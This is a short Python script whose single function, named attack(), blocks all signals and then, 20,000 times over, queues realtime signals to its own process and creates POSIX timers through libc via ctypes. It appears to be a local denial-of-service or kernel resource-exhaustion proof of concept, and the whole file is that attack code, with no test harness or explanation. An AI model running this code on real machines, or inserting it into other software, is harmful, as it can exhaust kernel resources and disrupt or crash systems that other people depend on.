import ctypes
import os
import signal


def attack():
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    libc = ctypes.CDLL(None)
    for _ in range(20_000):
        libc.sigqueue(os.getpid(), signal.SIGRTMIN, 0)
        libc.timer_create(1, 0, ctypes.byref(ctypes.c_void_p()))
